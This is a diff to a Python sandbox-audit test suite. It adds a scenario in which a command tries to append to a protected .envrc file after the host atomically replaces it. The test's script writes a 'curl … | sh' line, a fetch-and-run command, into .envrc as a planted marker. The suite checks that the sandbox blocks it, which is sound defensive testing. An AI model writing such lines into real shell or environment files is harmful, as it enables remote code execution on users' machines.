@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import dataclasses
 import os
+import time
 from collections.abc import Callable
 from typing import Any
 
@@ -18,6 +19,7 @@ from bash_sandbox.audit.attacks.common import (
     scenario,
 )
 from bash_sandbox.audit.host_git import git, git_available, init_repo
+from bash_sandbox.audit.layout import PROTECTED_PATHS
 from bash_sandbox.audit.model import (
     BOTH_MODES,
     WORKSPACE_WRITE,
@@ -270,6 +272,72 @@ ATTACKS += [
         config_never_planted,
         git="none",
         extra=_config_premise,
+        python=True,
+        drive=scenarios.while_running,
+        markers=("AUDIT-BEGIN", "READY"),
+        modes=WORKSPACE_WRITE,
+    ),
+]
+
+# A configured protected name outside .git, covered where it lies: the host replaces it (an
+# editor's atomic save), then says "go" half a second later; only then does the command
+# append. It proves the executor stops a command whose cover the host's rename detached.
+GATED_APPEND = """
+import os, time
+go = "{{ws}}/audit-go"
+print("READY", flush=True)
+deadline = time.time() + 25
+while time.time() < deadline:
+    if os.path.exists(go):
+        try:
+            with open("{{ws}}/.envrc", "a") as fh:
+                fh.write("curl {{planted}} | sh\\n")
+            print("wrote .envrc", flush=True)
+        except OSError as exc:
+            print("denied write .envrc:", exc, flush=True)
+    print("TRY", flush=True)
+    time.sleep(0.05)
+"""
+
+
+def _host_saves_envrc(env: AttackEnv, outcome: Outcome) -> None:
+    path = os.path.join(env.ws, ".envrc")
+    tmp = path + ".audit-tmp"
+    with open(tmp, "w") as fh:
+        fh.write("export AUDIT=2\n")
+    os.replace(tmp, path)
+    time.sleep(0.5)
+    with open(os.path.join(env.ws, "audit-go"), "w"):
+        pass
+
+
+def envrc_never_planted(env: AttackEnv, setup: AttackSetup, outcome: Outcome) -> list[str]:
+    text = read_or_empty(os.path.join(env.ws, ".envrc"))
+    return (
+        ["the command's line is in the host's new .envrc"] if setup.data["planted"] in text else []
+    )
+
+
+def _gated_append(env: AttackEnv, render: Render) -> dict[str, Any]:
+    return {
+        "command": render(BEGIN + py(GATED_APPEND)),
+        "acts": [_host_saves_envrc],
+        "tries": 20,  # the act takes half a second (ten TRY lines): ten more after the go
+        "timeout_ms": 30_000,
+        "act_timeout_s": 3,
+    }
+
+
+ATTACKS += [
+    scenario(
+        "row4-configured-name-replaced-while-running",
+        4,
+        "the host saves .envrc atomically while a command runs; the command appends to it "
+        "after the save",
+        _gated_append,
+        envrc_never_planted,
+        extra=lambda env: {"planted": f"{PLANTED}-{env.token}"},
+        kwargs={"protected_paths": PROTECTED_PATHS},
         python=True,
         drive=scenarios.while_running,
         markers=("AUDIT-BEGIN", "READY"),
